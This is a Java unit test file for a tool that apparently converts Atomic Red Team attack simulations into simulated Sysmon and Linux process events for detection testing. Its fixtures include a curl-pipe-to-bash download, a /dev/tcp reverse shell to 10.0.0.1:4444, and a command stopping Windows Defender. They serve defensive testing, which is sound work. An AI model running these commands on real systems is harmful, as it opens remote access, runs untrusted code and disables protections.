package io.detectionhub.attack.atomic.simulation;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import io.detectionhub.attack.atomic.AtomicExecutor;
import io.detectionhub.attack.atomic.AtomicTest;
import io.detectionhub.attack.atomic.InputArgument;

class AtomicEventBuilderTest {

    private static AtomicTest test(String executor, List<String> platforms, String command, InputArgument... args) {
        return new AtomicTest(1, "guid-1", "a test", "", platforms, List.of(args),
                new AtomicExecutor(executor, command, null, null, false));
    }

    @Test
    void shExecutorGivesTheInterpreterWithDefaultsFilledInAndEachProgramAsChild() {
        AtomicTest t = test("sh", List.of("linux", "macos"),
                "sh -c \"echo 'ping -c 4 #{host}' >> #{script_path}\"\nchmod +x #{script_path}\nsh #{script_path}\n",
                new InputArgument("script_path", "", "path", "/tmp/art.sh"),
                new InputArgument("host", "", "string", "8.8.8.8"));
        List<SimulatedEvent> events = new AtomicEventBuilder().build("T1059.004", t);
        List<SimulatedEvent> linux = events.stream().filter(e -> e.product().equals("linux")).toList();
        assertThat(events).extracting(SimulatedEvent::product).containsOnly("linux", "macos");
        SimulatedEvent shell = linux.get(0);
        assertThat(shell.origin()).isEqualTo("executor");
        assertThat(shell.image()).isEqualTo("/bin/sh");
        assertThat(shell.commandLine()).isEqualTo(
                "sh -c \"sh -c \\\"echo 'ping -c 4 8.8.8.8' >> /tmp/art.sh\\\"; chmod +x /tmp/art.sh; sh /tmp/art.sh\"");
        assertThat(linux).extracting(SimulatedEvent::image)
                .containsExactly("/bin/sh", "/usr/bin/sh", "/usr/bin/chmod", "/usr/bin/sh");
        SimulatedEvent chmod = linux.get(2);
        assertThat(chmod.commandLine()).isEqualTo("chmod +x /tmp/art.sh");
        assertThat(chmod.shape()).isEqualTo("linux-flat");
        assertThat(chmod.event()).containsEntry("Image", "/usr/bin/chmod").containsEntry("ParentImage", "/bin/sh")
                .containsEntry("CommandLine", "chmod +x /tmp/art.sh");
        assertThat(chmod.telemetry()).isEqualTo("process creation of /usr/bin/chmod with command line chmod +x /tmp/art.sh");
    }

    @Test
    void pipesAndBuiltinsAndRedirectionsAreHandled() {
        AtomicTest t = test("bash", List.of("linux"),
                "curl -sS https://x.example/a.sh | bash\nexport X=1; cd /tmp && echo hi > f 2>&1\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        List<SimulatedEvent> events = new AtomicEventBuilder().build("T1059.004", t);
        assertThat(events).extracting(SimulatedEvent::commandLine).containsExactly(
                events.get(0).commandLine(), "curl -sS https://x.example/a.sh", "bash",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assertThat(events.get(0).image()).isEqualTo("/bin/bash");
    }

    @Test
    void commandPromptJoinsLinesLikeInvokeAtomicTestAndBuildsSysmonEvents() {
        AtomicTest t = test("command_prompt", List.of("windows"),
                "sc stop #{service}\necho done > %TEMP%\\x.txt\nreg.exe add HKLM\\Software\\X /f",
                new InputArgument("service", "", "string", "WinDefend"));
        List<SimulatedEvent> events = new AtomicEventBuilder().build("T1685", t);
        assertThat(events).extracting(SimulatedEvent::image).containsExactly("C:\\Windows\\System32\\cmd.exe",
                "C:\\Windows\\System32\\sc.exe", "C:\\Windows\\System32\\reg.exe");
        SimulatedEvent cmd = events.get(0);
        assertThat(cmd.commandLine()).isEqualTo(
                "\"cmd.exe\" /c sc stop WinDefend & echo done > %TEMP%\\x.txt & reg.exe add HKLM\\Software\\X /f");
        assertThat(cmd.shape()).isEqualTo("windows-sysmon");
        @SuppressWarnings("unchecked")
        Map<String, Object> root = (Map<String, Object>) cmd.event().get("Event");
        @SuppressWarnings("unchecked")
        Map<String, Object> system = (Map<String, Object>) root.get("System");
        @SuppressWarnings("unchecked")
        Map<String, Object> data = (Map<String, Object>) root.get("EventData");
        assertThat(system).containsEntry("EventID", 1).containsEntry("Channel", "Microsoft-Windows-Sysmon/Operational");
        assertThat(data).containsEntry("Image", "C:\\Windows\\System32\\cmd.exe")
                .containsEntry("OriginalFileName", "Cmd.Exe")
                .containsEntry("ParentImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        assertThat(events.get(1).event().toString()).contains("ParentImage=C:\\Windows\\System32\\cmd.exe");
    }

    @Test
    void powershellGivesPowershellOnWindowsAndPwshElsewhereWithNativeProgramsAsChildren() {
        AtomicTest t = test("powershell", List.of("windows", "linux"),
                "Get-Process | Out-Null\nwhoami.exe /all\n& \"$PathToAtomicsFolder\\T1003\\bin\\tool.exe\" -x");
        List<SimulatedEvent> events = new AtomicEventBuilder().build("T1003", t);
        List<SimulatedEvent> windows = events.stream().filter(e -> e.product().equals("windows")).toList();
        assertThat(windows.get(0).image()).endsWith("\\powershell.exe");
        assertThat(windows.get(0).commandLine()).startsWith("\"powershell.exe\" & {Get-Process");
        assertThat(windows).extracting(SimulatedEvent::image).contains("C:\\Windows\\System32\\whoami.exe",
                "C:\\AtomicRedTeam\\atomics\\T1003\\bin\\tool.exe");
        List<SimulatedEvent> linux = events.stream().filter(e -> e.product().equals("linux")).toList();
        assertThat(linux.get(0).image()).isEqualTo("/usr/bin/pwsh");
        assertThat(linux.get(0).commandLine()).contains("/root/AtomicRedTeam/atomics\\T1003");
    }

    @Test
    void manualTestsAndExecutorsForOtherPlatformsGiveNoEvents() {
        AtomicTest manual = new AtomicTest(1, "g", "m", "", List.of("windows"), List.of(),
                new AtomicExecutor("manual", null, null, "1. click", false));
        assertThat(new AtomicEventBuilder().build("T1", manual)).isEmpty();
        assertThat(new AtomicEventBuilder().build("T1", test("command_prompt", List.of("linux"), "whoami"))).isEmpty();
        assertThat(new AtomicEventBuilder().build("T1", test("sh", List.of("windows"), "id"))).isEmpty();
    }

    @Test
    void unknownArgumentsStayAsWritten() {
        assertThat(AtomicEventBuilder.substitute("run #{missing} #{known}", List.of(
                new InputArgument("known", "", "string", "1")), false)).isEqualTo("run #{missing} 1");
    }
}
